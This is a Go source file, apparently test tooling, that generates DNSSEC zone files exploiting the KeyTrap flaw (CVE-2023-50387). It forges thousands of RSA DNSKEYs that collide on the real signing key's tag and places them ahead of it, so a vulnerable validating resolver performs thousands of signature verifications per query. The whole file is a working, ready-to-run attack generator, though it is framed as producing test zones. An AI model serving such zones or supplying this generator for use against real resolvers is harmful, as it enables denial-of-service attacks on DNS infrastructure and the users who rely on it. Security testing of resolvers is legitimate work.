// Package keytrap writes hostile test zones for the example programs: a
// signed zone whose DNSKEY RRset holds thousands of keys sharing the key tag
// and algorithm of the one key that really signs (RFC 4034 Appendix B key
// tags are a 16-bit checksum, so collisions are cheap to make). A verifier
// that tries every key with a matching tag spends one verification per key
// per signature (KeyTrap, CVE-2023-50387).
package keytrap

import (
	"crypto/rand"
	"crypto/rsa"
	"encoding/base64"
	"fmt"
	"io"
	"time"

	"github.com/miekg/dns"
)

// Zone writes a zone for origin signed with one RSA-2048 key (algorithm 8)
// whose DNSKEY RRset also holds n-1 further RSA keys with the same key tag,
// placed before the real key. Signatures are valid from inception to
// expiration. With n = 10,000 the file is about 3.8 MB.
func Zone(w io.Writer, origin string, n int, inception, expiration time.Time) error {
	origin = dns.Fqdn(origin)
	priv, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return err
	}
	real := &dns.DNSKEY{Hdr: dns.RR_Header{Name: origin, Rrtype: dns.TypeDNSKEY, Class: dns.ClassINET, Ttl: 3600}, Flags: 257, Protocol: 3, Algorithm: dns.RSASHA256}
	real.PublicKey = rsaPublic(priv.PublicKey.E, priv.PublicKey.N.Bytes())
	tag := real.KeyTag()
	var keys []dns.RR
	for len(keys) < n-1 {
		k, err := collidingKey(origin, tag)
		if err != nil {
			return err
		}
		if k != nil {
			keys = append(keys, k)
		}
	}
	keys = append(keys, real)
	soa, _ := dns.NewRR(fmt.Sprintf("%s 3600 IN SOA ns1.%s hostmaster.%s 2026120101 14400 3600 1209600 3600", origin, origin, origin))
	ns1, _ := dns.NewRR(fmt.Sprintf("%s 3600 IN NS ns1.%s", origin, origin))
	ns2, _ := dns.NewRR(fmt.Sprintf("%s 3600 IN NS ns2.%s", origin, origin))
	a1, _ := dns.NewRR(fmt.Sprintf("ns1.%s 3600 IN A 185.24.64.1", origin))
	a2, _ := dns.NewRR(fmt.Sprintf("ns2.%s 3600 IN A 185.24.65.1", origin))
	sets := [][]dns.RR{{soa}, {ns1, ns2}, keys, {a1}, {a2}}
	for _, set := range sets {
		for _, rr := range set {
			if _, err := fmt.Fprintln(w, rr.String()); err != nil {
				return err
			}
		}
		sig := &dns.RRSIG{Hdr: dns.RR_Header{Name: set[0].Header().Name, Rrtype: dns.TypeRRSIG, Class: dns.ClassINET, Ttl: 3600},
			Algorithm: dns.RSASHA256, SignerName: origin, KeyTag: tag,
			Inception: uint32(inception.Unix()), Expiration: uint32(expiration.Unix())}
		if err := sig.Sign(priv, set); err != nil {
			return err
		}
		if _, err := fmt.Fprintln(w, sig.String()); err != nil {
			return err
		}
	}
	return nil
}

// rsaPublic encodes an RSA public key as DNSKEY data (RFC 3110 §2).
func rsaPublic(e int, n []byte) string {
	exp := []byte{byte(e >> 16), byte(e >> 8), byte(e)}
	for len(exp) > 1 && exp[0] == 0 {
		exp = exp[1:]
	}
	b := append([]byte{byte(len(exp))}, exp...)
	return base64.StdEncoding.EncodeToString(append(b, n...))
}

// collidingKey returns a random 2048-bit RSA public key (odd modulus, top
// bit set) whose key tag is tag, or nil when the two adjusted bytes cannot
// reach it (the caller retries).
func collidingKey(origin string, tag uint16) (*dns.DNSKEY, error) {
	n := make([]byte, 256)
	if _, err := rand.Read(n); err != nil {
		return nil, err
	}
	n[0] |= 0x80
	n[255] |= 1
	k := &dns.DNSKEY{Hdr: dns.RR_Header{Name: origin, Rrtype: dns.TypeDNSKEY, Class: dns.ClassINET, Ttl: 3600}, Flags: 257, Protocol: 3, Algorithm: dns.RSASHA256}
	// RDATA: flags(2) protocol(1) algorithm(1) explen(1) exp(3) modulus;
	// modulus bytes 2 and 3 sit at RDATA offsets 10 (even: high byte of a
	// 16-bit word) and 11 (odd), so together they add v = n[2]<<8|n[3].
	n[2], n[3] = 0, 0
	k.PublicKey = rsaPublic(65537, n)
	base := k.KeyTag()
	for d := -2; d <= 2; d++ {
		v := uint16(int(tag) - int(base) + d)
		n[2], n[3] = byte(v>>8), byte(v)
		k.PublicKey = rsaPublic(65537, n)
		if k.KeyTag() == tag {
			return k, nil
		}
	}
	return nil, nil
}
